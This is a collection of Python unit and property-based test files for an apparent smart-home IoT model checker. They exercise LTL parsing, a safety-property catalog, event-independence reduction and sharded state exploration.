    def test_exact_store_monotone(self, operations):
        """Once a key is seen at depth d, it is seen at every depth >= d."""
        store = ExactVisitedSet()
        recorded = {}
        for key, depth in operations:
            expected_seen = key in recorded and recorded[key] <= depth
            assert store.seen_before(key, depth) == expected_seen
            if not expected_seen:
                recorded[key] = depth

    @given(st.lists(_KEYS, unique=True, max_size=80))
    def test_bitstate_never_forgets(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        for key in keys:
            assert table.seen_before(key, 0)

    @given(st.lists(_KEYS, unique=True, min_size=1, max_size=50))
    @settings(max_examples=30)
    def test_bitstate_stored_plus_collisions_is_total(self, keys):
        table = BitStateTable(bits_log2=16)
        for key in keys:
            table.seen_before(key, 0)
        assert table.stored + table.collisions == len(keys)
