"""Unit tests for IoTSystem: subscription routing, external choices,
transition relations (sequential and concurrent)."""

import pytest

from repro.checker.monitor import SafetyMonitor
from repro.model.events import APP, DEVICE, LOCATION, Event, ExternalEvent
from repro.properties import build_properties


def monitor_factory_for(system):
    return lambda: SafetyMonitor(system, build_properties())


class TestSubscriptionResolution:
    def test_device_subscriptions_resolved_per_device(self, alice_system):
        device_subs = [s for s in alice_system.subscriptions
                       if s.source_kind == "device"]
        assert any(s.device == "alicePresence" and s.attribute == "presence"
                   for s in device_subs)

    def test_location_subscription_resolved(self, alice_system):
        assert any(s.source_kind == "location"
                   for s in alice_system.subscriptions)

    def test_app_touch_subscription_resolved(self, alice_system):
        assert any(s.source_kind == "app"
                   for s in alice_system.subscriptions)


class TestSubscribersFor:
    def test_device_event_routing(self, alice_system):
        event = Event(DEVICE, device="alicePresence", attribute="presence",
                      value="not present")
        matches = alice_system.subscribers_for(event)
        assert [(a.name, h) for a, h, _v in matches] == [
            ("Auto Mode Change", "presenceHandler")]

    def test_unrelated_device_event_no_subscribers(self, alice_system):
        event = Event(DEVICE, device="doorLock", attribute="battery",
                      value="20")
        assert alice_system.subscribers_for(event) == []

    def test_location_mode_event_routing(self, alice_system):
        event = Event(LOCATION, attribute="mode", value="Away")
        matches = alice_system.subscribers_for(event)
        assert any(a.name == "Unlock Door" for a, _h, _v in matches)

    def test_app_touch_routing(self, alice_system):
        event = Event(APP, app="Unlock Door")
        matches = alice_system.subscribers_for(event)
        assert [(a.name, h) for a, h, _v in matches] == [
            ("Unlock Door", "appTouch")]


class TestExternalChoices:
    def test_sensor_choices_exclude_current_value(self, alice_system):
        state = alice_system.initial_state()
        sensor_choices = [c for c in alice_system.external_choices(state)
                          if c.kind == "sensor"
                          and c.attribute == "presence"]
        values = {c.value for c in sensor_choices}
        assert values == {"not present"}  # current is "present"

    def test_touch_choice_for_touch_apps(self, alice_system):
        state = alice_system.initial_state()
        touches = [c for c in alice_system.external_choices(state)
                   if c.kind == "touch"]
        assert [t.app for t in touches] == ["Unlock Door"]

    def test_timer_choice_for_scheduled_callback(self, alice_system):
        state = alice_system.initial_state()
        state.add_schedule("Unlock Door", "someTimer")
        timers = [c for c in alice_system.external_choices(state)
                  if c.kind == "timer"]
        assert ("Unlock Door", "someTimer") in [(t.app, t.handler)
                                                for t in timers]


class TestSequentialTransitions:
    def test_transitions_cover_all_choices(self, alice_system):
        state = alice_system.initial_state()
        transitions = list(alice_system.transitions(
            state, monitor_factory_for(alice_system)))
        choices = alice_system.external_choices(state)
        assert len(transitions) == len(choices)  # failures disabled

    def test_transition_does_not_mutate_source(self, alice_system):
        state = alice_system.initial_state()
        before = state.key()
        list(alice_system.transitions(state,
                                      monitor_factory_for(alice_system)))
        assert state.key() == before

    def test_failure_enumeration_multiplies_transitions(self, generator,
                                                        alice_config):
        system = generator.build(alice_config, enable_failures=True)
        state = system.initial_state()
        plain = generator.build(alice_config)
        n_plain = len(list(plain.transitions(
            state, monitor_factory_for(plain))))
        n_fail = len(list(system.transitions(
            state, monitor_factory_for(system))))
        assert n_fail > n_plain


class TestConcurrentTransitions:
    def test_external_injection_defers_dispatch(self, alice_system):
        state = alice_system.initial_state()
        transitions = list(alice_system.transitions_concurrent(
            state, monitor_factory_for(alice_system), externals_left=1))
        injected = [t for t in transitions if t[2]]  # consumed=True
        assert injected
        _label, new_state, _consumed, _violations, _steps = injected[0]
        # the cyber event is parked, not dispatched run-to-completion
        assert new_state.pending

    def test_dispatch_consumes_pending(self, alice_system):
        state = alice_system.initial_state()
        injected = [t for t in alice_system.transitions_concurrent(
            state, monitor_factory_for(alice_system), externals_left=1)
            if t[2]]
        mid_state = injected[0][1]
        dispatches = [t for t in alice_system.transitions_concurrent(
            mid_state, monitor_factory_for(alice_system), externals_left=0)
            if not t[2]]
        assert len(dispatches) == len(mid_state.pending)

    def test_no_externals_left_blocks_injection(self, alice_system):
        state = alice_system.initial_state()
        transitions = list(alice_system.transitions_concurrent(
            state, monitor_factory_for(alice_system), externals_left=0))
        assert all(not t[2] for t in transitions)


class TestRolesAndModes:
    def test_role_and_role_list(self, alice_system):
        assert alice_system.role("main_door_lock") == "doorLock"
        assert alice_system.role_list("main_door_lock") == ["doorLock"]
        assert alice_system.role("ghost_role") is None
        assert alice_system.role_list("ghost_role") == []

    def test_mode_defaults(self, alice_system):
        assert alice_system.away_mode == "Away"
        assert alice_system.home_mode == "Home"
        assert alice_system.night_mode == "Night"

    def test_initial_state_seeds_devices(self, alice_system):
        state = alice_system.initial_state()
        assert state.attribute("doorLock", "lock") == "locked"
        assert state.attribute("alicePresence", "presence") == "present"

    def test_http_allowlist(self, generator, alice_config):
        alice_config.http_allowed = ["Unlock Door"]
        system = generator.build(alice_config)
        assert system.is_http_allowed("Unlock Door", "http://x")
        assert not system.is_http_allowed("Auto Mode Change", "http://x")
