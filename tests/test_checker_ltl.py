"""Unit + property-based tests for the LTL safety fragment."""

import pytest

from hypothesis import given
from hypothesis import strategies as st

from repro.checker import ltl
from repro.checker.ltl import (
    Always,
    Atom,
    Eventually,
    LTLSyntaxError,
    Not,
    bad_prefix,
    never_claim,
    parse,
    violates,
)


def atoms(**predicates):
    """Atom table stand-in: state is a dict, atoms read keys."""
    table = {name: (lambda key: (lambda state: state.get(key)))(name)
             for name in predicates or {}}

    class Table:
        def get(self, name):
            if name in table:
                return table[name]
            return lambda state: state.get(name)

    return Table()


A = atoms()


def trace(*states):
    return list(states)


class TestParser:
    def test_atom(self):
        formula = parse("p")
        assert isinstance(formula, Atom)
        assert formula.name == "p"

    def test_always(self):
        formula = parse("[] p")
        assert isinstance(formula, Always)

    def test_word_aliases(self):
        assert parse("G p") == parse("[] p")
        assert parse("F p") == parse("<> p")

    def test_implication_right_associative(self):
        formula = parse("a -> b -> c")
        assert str(formula) == str(parse("a -> (b -> c)"))

    def test_precedence_and_over_or(self):
        formula = parse("a || b && c")
        assert str(formula) == str(parse("a || (b && c)"))

    def test_not_binds_tight(self):
        formula = parse("!a && b")
        assert str(formula) == str(parse("(!a) && b"))

    def test_parentheses(self):
        assert parse("(p)") == Atom("p")

    def test_comparison_atom(self):
        formula = parse("temp >= TEMP_HIGH")
        assert isinstance(formula, Atom)
        assert formula.name == "temp >= TEMP_HIGH"

    def test_chained_comparison_becomes_conjunction(self):
        formula = parse("LOW <= x <= HIGH")
        assert formula.atoms() == {"LOW <= x", "x <= HIGH"}

    def test_until(self):
        formula = parse("a U b")
        assert isinstance(formula, ltl.Until)

    def test_weak_until(self):
        assert isinstance(parse("a W b"), ltl.WeakUntil)

    def test_empty_raises(self):
        with pytest.raises(LTLSyntaxError):
            parse("")

    def test_trailing_tokens_raise(self):
        with pytest.raises(LTLSyntaxError):
            parse("a b")

    def test_unbalanced_paren_raises(self):
        with pytest.raises(LTLSyntaxError):
            parse("(a && b")


class TestSemantics:
    def test_atom_on_first_state(self):
        assert parse("p").holds_on(trace({"p": True}), A)
        assert not parse("p").holds_on(trace({"p": False}), A)

    def test_three_valued_none_counts_as_holding(self):
        assert parse("p").holds_on(trace({}), A)

    def test_always(self):
        formula = parse("[] p")
        assert formula.holds_on(trace({"p": True}, {"p": True}), A)
        assert not formula.holds_on(trace({"p": True}, {"p": False}), A)

    def test_eventually(self):
        formula = parse("<> p")
        assert formula.holds_on(trace({"p": False}, {"p": True}), A)
        assert not formula.holds_on(trace({"p": False}, {"p": False}), A)

    def test_next_weak_at_end(self):
        formula = parse("X p")
        assert formula.holds_on(trace({"p": False}), A)  # no next state
        assert formula.holds_on(trace({"p": False}, {"p": True}), A)
        assert not formula.holds_on(trace({"p": True}, {"p": False}), A)

    def test_until(self):
        formula = parse("p U q")
        assert formula.holds_on(
            trace({"p": True, "q": False}, {"p": False, "q": True}), A)
        assert not formula.holds_on(
            trace({"p": True, "q": False}, {"p": True, "q": False}), A)

    def test_weak_until_holds_forever(self):
        formula = parse("p W q")
        assert formula.holds_on(
            trace({"p": True, "q": False}, {"p": True, "q": False}), A)

    def test_implication(self):
        formula = parse("[] (p -> q)")
        assert formula.holds_on(
            trace({"p": False, "q": False}, {"p": True, "q": True}), A)
        assert not formula.holds_on(trace({"p": True, "q": False}), A)

    def test_response_property(self):
        formula = parse("[] (p -> <> q)")
        good = trace({"p": True, "q": False}, {"q": True})
        bad = trace({"p": True, "q": False}, {"q": False})
        assert formula.holds_on(good, A)
        assert not formula.holds_on(bad, A)


class TestBadPrefix:
    def test_invariant_bad_prefix_index(self):
        formula = parse("[] p")
        states = trace({"p": True}, {"p": True}, {"p": False}, {"p": True})
        assert bad_prefix(formula, states, A) == 2

    def test_no_bad_prefix(self):
        formula = parse("[] p")
        assert bad_prefix(formula, trace({"p": True}, {"p": True}), A) is None

    def test_violates(self):
        formula = parse("[] p")
        assert violates(formula, trace({"p": False}), A)


class TestSafetyClassification:
    def test_invariant_is_safety(self):
        assert parse("[] (a -> b)").is_safety()

    def test_eventually_not_safety(self):
        assert not parse("<> a").is_safety()

    def test_response_not_safety(self):
        assert not parse("[] (a -> <> b)").is_safety()

    def test_negated_eventually_is_safety(self):
        assert parse("! <> a").is_safety()


class TestNeverClaim:
    def test_invariant_claim_shape(self):
        claim = never_claim(parse("[] (nobody_home -> door_locked)"))
        assert claim.startswith("never {")
        assert "accept_init" in claim
        assert "nobody_home" in claim
        assert claim.rstrip().endswith("}")

    def test_claim_comment(self):
        claim = never_claim(parse("[] p"), comment="P06: door locked")
        assert "P06" in claim


class TestAtomTable:
    @pytest.fixture()
    def table(self, alice_system):
        return ltl.AtomTable(alice_system)

    def test_builtin_atoms_present(self, table):
        for name in ("nobody_home", "somebody_home", "mode_away",
                     "door_locked", "smoke_detected"):
            assert table.get(name) is not None

    def test_nobody_home_on_initial_state(self, table, alice_system):
        state = alice_system.initial_state()
        assert table.get("nobody_home")(state) is False

    def test_door_locked_initially(self, table, alice_system):
        state = alice_system.initial_state()
        assert table.get("door_locked")(state) is True

    def test_composite_comparison_atom(self, table, alice_system):
        state = alice_system.initial_state()
        assert table.get("mode == Home")(state) is True
        assert table.get("mode == Away")(state) is False

    def test_derived_negation_atom(self, table, alice_system):
        state = alice_system.initial_state()
        heater_off = table.get("heater_off")
        # no heater role bound -> three-valued None
        assert heater_off(state) is None

    def test_user_defined_atom(self, table, alice_system):
        table.define("always_true", lambda state: True)
        assert table.get("always_true")(alice_system.initial_state())

    def test_unknown_atom_is_none(self, table):
        assert table.get("no_such_atom_xyz") is None

    def test_paper_formula_on_violating_trace(self, table, alice_system):
        """[] (nobody_home -> door_locked) fails on the Fig-7 end state."""
        state = alice_system.initial_state()
        bad = state.copy()
        bad.set_attribute("alicePresence", "presence", "not present")
        bad.set_attribute("doorLock", "lock", "unlocked")
        formula = parse("[] (nobody_home -> door_locked)")
        assert formula.holds_on([state], table)
        assert not formula.holds_on([state, bad], table)
        assert bad_prefix(formula, [state, bad], table) == 1


# ---------------------------------------------------------------------------
# property-based: semantic dualities
# ---------------------------------------------------------------------------

_BOOLS = st.booleans()
_TRACES = st.lists(
    st.fixed_dictionaries({"p": _BOOLS, "q": _BOOLS}), min_size=1,
    max_size=6)


class TestDualities:
    @given(_TRACES)
    def test_always_dual_of_eventually(self, states):
        always_p = parse("[] p")
        not_ev_not_p = Not(Eventually(Not(Atom("p"))))
        assert always_p.holds_on(states, A) == not_ev_not_p.holds_on(
            states, A)

    @given(_TRACES)
    def test_de_morgan(self, states):
        lhs = parse("!(p && q)")
        rhs = parse("!p || !q")
        assert lhs.holds_on(states, A) == rhs.holds_on(states, A)

    @given(_TRACES)
    def test_implication_material(self, states):
        lhs = parse("p -> q")
        rhs = parse("!p || q")
        assert lhs.holds_on(states, A) == rhs.holds_on(states, A)

    @given(_TRACES)
    def test_weak_until_decomposition(self, states):
        # p W q  ==  (p U q) || [] p
        lhs = parse("p W q")
        rhs_u = parse("p U q")
        rhs_g = parse("[] p")
        assert lhs.holds_on(states, A) == (
            rhs_u.holds_on(states, A) or rhs_g.holds_on(states, A))

    @given(_TRACES)
    def test_bad_prefix_iff_violates_for_invariant(self, states):
        formula = parse("[] p")
        assert (bad_prefix(formula, states, A) is not None) == violates(
            formula, states, A)
