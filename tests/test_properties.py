"""Unit tests for the 45-property catalog (§8, Table 4)."""

import pytest

from repro.model.state import ModelState
from repro.properties import (
    build_properties,
    default_properties,
    properties_by_category,
    select_relevant,
)
from repro.properties.base import KIND_INVARIANT
from repro.properties.physical import PHYSICAL_PROPERTIES


class TestCatalogShape:
    def test_exactly_45_properties(self):
        assert len(default_properties()) == 45

    def test_exactly_38_physical(self):
        assert len(PHYSICAL_PROPERTIES) == 38
        assert all(p.kind == KIND_INVARIANT for p in PHYSICAL_PROPERTIES)

    def test_table4_category_counts(self):
        """Table 4: Thermostat 5, Lock/door 8, Location mode 3,
        Security/alarming 14, Water/sprinkler 3, Others 5."""
        by_category = properties_by_category()
        counts = {name: len(props) for name, props in by_category.items()
                  if any(p.kind == KIND_INVARIANT for p in props)}
        assert counts["Thermostat, AC, and Heater"] == 5
        assert counts["Lock and door control"] == 8
        assert counts["Location mode"] == 3
        assert counts["Security and alarming"] == 14
        assert counts["Water and sprinkler"] == 3
        assert counts["Others"] == 5

    def test_special_property_kinds(self):
        kinds = {p.kind for p in default_properties()}
        assert {"conflict", "repeat", "leakage-http", "leakage-sms",
                "security-command", "fake-event", "robustness",
                "invariant"} == kinds

    def test_unique_ids(self):
        ids = [p.id for p in default_properties()]
        assert len(set(ids)) == len(ids)

    def test_every_property_has_description(self):
        for prop in default_properties():
            assert prop.description
            assert prop.name

    def test_every_invariant_has_ltl(self):
        for prop in PHYSICAL_PROPERTIES:
            assert prop.ltl, prop.id


class TestBuildProperties:
    def test_default_is_all(self):
        assert len(build_properties()) == 45

    def test_select_by_id(self):
        props = build_properties(["P06", "P39"])
        assert {p.id for p in props} == {"P06", "P39"}

    def test_select_by_category(self):
        props = build_properties(["Lock and door control"])
        assert len(props) == 8

    def test_unknown_selection_raises(self):
        with pytest.raises(KeyError):
            build_properties(["P99"])


class TestPredicates:
    """Drive individual invariants with hand-built states."""

    def _state(self, alice_system, **attrs):
        state = alice_system.initial_state()
        for spec, value in attrs.items():
            device, attribute = spec.split("__")
            state.set_attribute(device, attribute, value)
        return state

    def _prop(self, pid):
        return next(p for p in default_properties() if p.id == pid)

    def test_p06_holds_when_home(self, alice_system):
        prop = self._prop("P06")
        state = self._state(alice_system)
        assert prop.holds(state, alice_system)

    def test_p06_violated_when_away_unlocked(self, alice_system):
        prop = self._prop("P06")
        state = self._state(alice_system,
                            alicePresence__presence="not present",
                            doorLock__lock="unlocked")
        assert not prop.holds(state, alice_system)

    def test_p06_holds_when_away_locked(self, alice_system):
        prop = self._prop("P06")
        state = self._state(alice_system,
                            alicePresence__presence="not present")
        assert prop.holds(state, alice_system)

    def test_p08_mode_dependent(self, alice_system):
        prop = self._prop("P08")
        state = self._state(alice_system, doorLock__lock="unlocked")
        assert prop.holds(state, alice_system)  # mode is Home
        state.mode = "Away"
        assert not prop.holds(state, alice_system)

    def test_inapplicable_property_counts_as_holding(self, alice_system):
        # P01 needs heater_outlet + temp_sensor roles - unbound here
        prop = self._prop("P01")
        assert not prop.applicable(alice_system)
        assert prop.holds(alice_system.initial_state(), alice_system)


class TestThermostatPredicates:
    @pytest.fixture()
    def climate_system(self, generator):
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("t", "temperature-sensor")
        config.add_device("heater", "smart-outlet")
        config.add_device("ac", "smart-outlet")
        config.association.update({"temp_sensor": "t",
                                   "heater_outlet": "heater",
                                   "ac_outlet": "ac"})
        config.add_app("Too Hot Cooler", {"sensor": "t", "maxTemp": 85,
                                          "ac": "ac"})
        return generator.build(config)

    def _prop(self, pid):
        return next(p for p in default_properties() if p.id == pid)

    def test_p01_heater_on_when_hot(self, climate_system):
        state = climate_system.initial_state()
        state.set_attribute("t", "temperature", 95)
        state.set_attribute("heater", "switch", "on")
        assert not self._prop("P01").holds(state, climate_system)

    def test_p01_heater_on_when_cool_is_fine(self, climate_system):
        state = climate_system.initial_state()
        state.set_attribute("t", "temperature", 60)
        state.set_attribute("heater", "switch", "on")
        assert self._prop("P01").holds(state, climate_system)

    def test_p03_both_on_violates(self, climate_system):
        state = climate_system.initial_state()
        state.set_attribute("heater", "switch", "on")
        state.set_attribute("ac", "switch", "on")
        assert not self._prop("P03").holds(state, climate_system)

    def test_p03_one_on_holds(self, climate_system):
        state = climate_system.initial_state()
        state.set_attribute("ac", "switch", "on")
        assert self._prop("P03").holds(state, climate_system)


class TestSelection:
    def test_monitored_properties_always_kept(self, alice_system):
        selected = select_relevant(alice_system, default_properties())
        kinds = {p.kind for p in selected}
        assert "conflict" in kinds
        assert "repeat" in kinds

    def test_unbound_roles_dropped(self, alice_system):
        selected = select_relevant(alice_system, default_properties())
        ids = {p.id for p in selected}
        assert "P01" not in ids  # no heater role in Alice's home
        assert "P06" in ids

    def test_uncontrolled_actuator_dropped(self, generator):
        """A lock nobody controls cannot satisfy or violate lock duties."""
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("p", "smartsense-presence")
        config.add_device("lock", "zwave-lock")
        config.add_device("s1", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.association["main_door_lock"] = "lock"
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s1"})
        system = generator.build(config)
        selected = select_relevant(system, default_properties())
        assert "P06" not in {p.id for p in selected}

    def test_mode_obligations_need_mode_app(self, generator):
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("p", "smartsense-presence")
        config.add_device("m", "smartsense-motion")
        config.add_device("s1", "smart-outlet")
        config.association["presence_sensors"] = ["p"]
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s1"})
        system = generator.build(config)
        selected = {p.id for p in select_relevant(system,
                                                  default_properties())}
        assert "P14" not in selected

    def test_mode_obligations_kept_with_mode_app(self, alice_system):
        selected = {p.id for p in select_relevant(alice_system,
                                                  default_properties())}
        assert "P14" in selected
