"""The static event-independence analysis and the engine reduction.

Soundness contract: pruning one order of every commuting pair must never
drop a *violation* - the set of violated property ids (and the monitored
per-cascade violations behind them) is preserved, only the explored state
count shrinks.  Attribution of a joint-state invariant violation may
differ (only one interleaving is explored), which is why the assertions
compare property ids rather than full dedup keys.
"""

import pytest

from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.deps.independence import IndependenceAnalysis
from repro.engine import EngineOptions, ExplorationEngine
from repro.model.events import ExternalEvent
from repro.model.generator import ModelGenerator
from repro.properties import build_properties, select_relevant

from tests.conftest import _load_or_skip
from tests.helpers import app_source, make_app


def _build(config, registry=None):
    registry = registry or _load_or_skip(load_all_apps)
    return ModelGenerator(registry).build(config, strict=False)


def _two_island_system():
    """Two apps on disjoint devices: their trigger events commute."""
    left = make_app(app_source(
        name="Left", preferences='section("s") {\n'
        'input "motion1", "capability.motionSensor"\n'
        'input "switch1", "capability.switch"\n}',
        body='''
preferences { }
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) { switch1.on() }
'''), "left.groovy")
    right = make_app(app_source(
        name="Right", preferences='section("s") {\n'
        'input "contact1", "capability.contactSensor"\n'
        'input "switch1", "capability.switch"\n}',
        body='''
def installed() { subscribe(contact1, "contact.open", onOpen) }
def onOpen(evt) { switch1.off() }
'''), "right.groovy")
    config = SystemConfiguration()
    config.add_device("m", "smartsense-motion")
    config.add_device("c", "smartsense-multi")
    config.add_device("s1", "smart-outlet")
    config.add_device("s2", "smart-outlet")
    config.add_app("Left", {"motion1": "m", "switch1": "s1"})
    config.add_app("Right", {"contact1": "c", "switch1": "s2"})
    return ModelGenerator({"Left": left, "Right": right}).build(config)


class TestEventKeys:
    def test_key_matches_label_parse(self):
        analysis = IndependenceAnalysis(_two_island_system())
        events = [
            ExternalEvent("sensor", device="m", attribute="motion",
                          value="active"),
            ExternalEvent("touch", app="Left"),
            ExternalEvent("timer", app="Left", handler="tick"),
            ExternalEvent("environment", attribute="sunrise"),
            ExternalEvent("mode", value="Away"),
        ]
        for ext in events:
            assert analysis.key_for_label(ext.label()) == analysis.key(ext)

    def test_failure_label_is_not_reducible(self):
        analysis = IndependenceAnalysis(_two_island_system())
        assert analysis.key_for_label(
            "m/motion=active [sensor offline]") is None


class TestFootprints:
    def test_disjoint_islands_commute(self):
        analysis = IndependenceAnalysis(_two_island_system())
        motion = ("sensor", "m", "motion", "active")
        contact = ("sensor", "c", "contact", "open")
        assert analysis.independent(motion, contact)

    def test_same_device_events_are_dependent(self):
        analysis = IndependenceAnalysis(_two_island_system())
        active = ("sensor", "m", "motion", "active")
        inactive = ("sensor", "m", "motion", "inactive")
        assert not analysis.independent(active, inactive)

    def test_shared_actuator_breaks_independence(self):
        """Two apps commanding the same switch must stay ordered."""
        config = SystemConfiguration()
        config.add_device("m", "smartsense-motion")
        config.add_device("c", "smartsense-multi")
        config.add_device("shared", "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "m",
                                            "switch1": "shared"})
        config.add_app("Light Off When Close", {"contact1": "c",
                                                "switches": ["shared"]})
        analysis = IndependenceAnalysis(_build(config))
        motion = ("sensor", "m", "motion", "active")
        contact = ("sensor", "c", "contact", "open")
        assert not analysis.independent(motion, contact)

    def test_clock_reading_app_is_global(self):
        clock_app = make_app(app_source(
            name="Clocky", preferences='section("s") {\n'
            'input "motion1", "capability.motionSensor"\n}',
            body='''
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) { state.last = now() }
'''), "clocky.groovy")
        config = SystemConfiguration()
        config.add_device("m", "smartsense-motion")
        config.add_device("c", "smartsense-multi")
        config.add_app("Clocky", {"motion1": "m"})
        system = ModelGenerator({"Clocky": clock_app}).build(config)
        analysis = IndependenceAnalysis(system)
        assert analysis.event_footprint(
            ("sensor", "m", "motion", "active")) is None
        assert not analysis.independent(
            ("sensor", "m", "motion", "active"),
            ("sensor", "c", "contact", "open"))

    def test_should_skip_prunes_exactly_one_order(self):
        analysis = IndependenceAnalysis(_two_island_system())
        motion = ExternalEvent("sensor", device="m", attribute="motion",
                               value="active")
        contact = ExternalEvent("sensor", device="c", attribute="contact",
                                value="open")
        motion_key = analysis.key(motion)
        contact_key = analysis.key(contact)
        first, second = sorted([(motion_key, motion), (contact_key, contact)])
        # ascending order explored, descending skipped
        assert not analysis.should_skip(first[0], second[1])
        assert analysis.should_skip(second[0], first[1])


class TestReductionSoundness:
    """Independence pruning never drops a violated property."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_groups_keep_all_violations(self, group_name):
        system = _build(GROUP_BUILDERS[group_name]())
        properties = select_relevant(system, build_properties())
        full = ExplorationEngine(system, properties, EngineOptions(
            max_events=2)).run()
        reduced = ExplorationEngine(system, properties, EngineOptions(
            max_events=2, reduction=True)).run()
        assert (reduced.violated_property_ids
                == full.violated_property_ids), group_name
        assert reduced.states_explored <= full.states_explored
        assert reduced.transitions <= full.transitions

    def test_islands_shrink_without_losing_states_semantics(self):
        system = _two_island_system()
        properties = select_relevant(system, build_properties())
        full = ExplorationEngine(system, properties, EngineOptions(
            max_events=3)).run()
        reduced = ExplorationEngine(system, properties, EngineOptions(
            max_events=3, reduction=True)).run()
        assert reduced.commutes_pruned > 0
        assert reduced.transitions < full.transitions
        assert (reduced.violated_property_ids
                == full.violated_property_ids)

    def test_sleep_sets_prune_commuting_suffixes(self):
        """Three mutually commuting events: sleep sets keep essentially
        one interleaving order per subset, not just one order per
        adjacent pair - the transition count collapses toward the
        subset lattice instead of the permutation tree."""
        import itertools

        left = make_app(app_source(
            name="Left", preferences='section("s") {\n'
            'input "motion1", "capability.motionSensor"\n'
            'input "switch1", "capability.switch"\n}',
            body='''
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) { switch1.on() }
'''), "left.groovy")
        middle = make_app(app_source(
            name="Middle", preferences='section("s") {\n'
            'input "contact1", "capability.contactSensor"\n'
            'input "switch1", "capability.switch"\n}',
            body='''
def installed() { subscribe(contact1, "contact.open", onOpen) }
def onOpen(evt) { switch1.off() }
'''), "middle.groovy")
        right = make_app(app_source(
            name="Right", preferences='section("s") {\n'
            'input "presence1", "capability.presenceSensor"\n'
            'input "switch1", "capability.switch"\n}',
            body='''
def installed() { subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) { switch1.on() }
'''), "right.groovy")
        config = SystemConfiguration()
        config.add_device("m", "smartsense-motion")
        config.add_device("c", "smartsense-multi")
        config.add_device("p", "smartsense-presence")
        for index in range(3):
            config.add_device("s%d" % index, "smart-outlet")
        config.add_app("Left", {"motion1": "m", "switch1": "s0"})
        config.add_app("Middle", {"contact1": "c", "switch1": "s1"})
        config.add_app("Right", {"presence1": "p", "switch1": "s2"})
        system = ModelGenerator({"Left": left, "Middle": middle,
                                 "Right": right}).build(config)
        properties = select_relevant(system, build_properties())

        full = ExplorationEngine(system, properties, EngineOptions(
            max_events=3)).run()
        reduced = ExplorationEngine(system, properties, EngineOptions(
            max_events=3, reduction=True)).run()
        assert (reduced.violated_property_ids
                == full.violated_property_ids)
        assert reduced.states_explored <= full.states_explored
        # a pairwise skip would keep half of every commuting pair's
        # orders; sleep sets prune whole commuting suffixes, so with the
        # dependent same-device events included the surviving transition
        # share must still drop well below what adjacent-pair skipping
        # could reach on this mixed workload
        assert reduced.transitions < full.transitions * 0.55
        assert reduced.commutes_pruned > 0

    def test_reduction_disabled_with_failures(self):
        config = GROUP_BUILDERS["group1-entry-and-mode"]()
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(config, enable_failures=True)
        properties = select_relevant(system, build_properties())
        result = ExplorationEngine(system, properties, EngineOptions(
            max_events=1, reduction=True)).run()
        assert result.commutes_pruned == 0
