"""Pluggable shard partitioning, delta handoffs and work stealing.

The PR 8 acceptance bar, pinned as tests:

* **equivalence matrix** - every bundled expert group, under both
  partitioners, at 1/2/3 workers, over the exact and collapse stores,
  reports byte-identical verdicts, violation sets, distinct-state
  counts and rendered canonical traces - including under a non-clean
  fault-injection scenario;
* **delta round-trip** - the schema's handoff delta is exact in both
  directions (property-based over arbitrary on/off-schema states);
* **deterministic ownership** - the locality partitioner's owner map is
  a pure function of state content, independent of the interpreter
  hash seed and of which process built the schema;
* **accounting** - ``handoff_bytes`` / ``steals`` / ``stolen_states``
  ride the merged ``shard_stats`` (with the per-shard cache watchdog
  verdict) and survive the JSON round trip;
* **neutrality** - ``partition`` is a pure performance knob: it never
  changes a job's content-addressed cache key, and the service API
  validates it like every other enum option.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import (
    EngineOptions,
    ExplorationResult,
    VerificationJob,
    explore_sharded,
    make_partitioner,
    partitioner_names,
)
from repro.engine.batch import execute_job_inline

from tests.conftest import _load_or_skip
from tests.test_state_schema import _arbitrary_states


def _group_job(group_name, workers=1, **option_kwargs):
    _load_or_skip(load_all_apps)
    return VerificationJob(group_name, GROUP_BUILDERS[group_name](),
                           EngineOptions(max_events=2, workers=workers,
                                         **option_kwargs),
                           strict=False)


def _rendered_traces(result):
    return {key: ce.describe() for key, ce in result.counterexamples.items()}


def _small_system():
    from repro.config.schema import SystemConfiguration
    from repro.model.generator import ModelGenerator

    registry = _load_or_skip(load_all_apps)
    config = SystemConfiguration()
    config.add_device("frontDoor", "smartsense-multi")
    config.add_device("hallSwitch", "smart-outlet")
    config.add_device("motion", "smartsense-motion")
    config.add_app("Brighten My Path", {"motion1": "motion",
                                        "switch1": "hallSwitch"})
    return ModelGenerator(registry).build(config)


@pytest.fixture(scope="module")
def small_schema():
    return _small_system().state_schema()


# -- the partitioner registry -------------------------------------------------


class TestPartitionerRegistry:
    def test_registered_names(self):
        assert partitioner_names() == ["fingerprint", "locality"]

    def test_unknown_name_rejected(self):
        with pytest.raises(ValueError, match="unknown partitioner"):
            make_partitioner("roundrobin", None, 2)

    def test_options_validate_partition(self):
        with pytest.raises(ValueError, match="unknown partition"):
            EngineOptions(partition="roundrobin")
        assert EngineOptions(partition="fingerprint").partition \
            == "fingerprint"
        assert EngineOptions().partition == "locality"

    def test_owner_total_and_in_range(self):
        system = _small_system()
        for name in partitioner_names():
            partitioner = make_partitioner(name, system, 3)
            state = system.initial_state()
            for _ in range(3):
                assert partitioner.owner(state) in (0, 1, 2)
                state = state.copy()
                state.set_attribute("hallSwitch", "switch", "on")

    def test_locality_owner_is_schema_build_independent(self):
        """The locality owner map must agree across processes that each
        compile their own schema (that is what makes sharded ownership
        consistent), so two independently built systems must agree."""
        left, right = _small_system(), _small_system()
        owner_left = make_partitioner("locality", left, 4)
        owner_right = make_partitioner("locality", right, 4)
        state = left.initial_state()
        twin = right.initial_state()
        for _ in range(4):
            assert owner_left.owner(state) == owner_right.owner(twin)
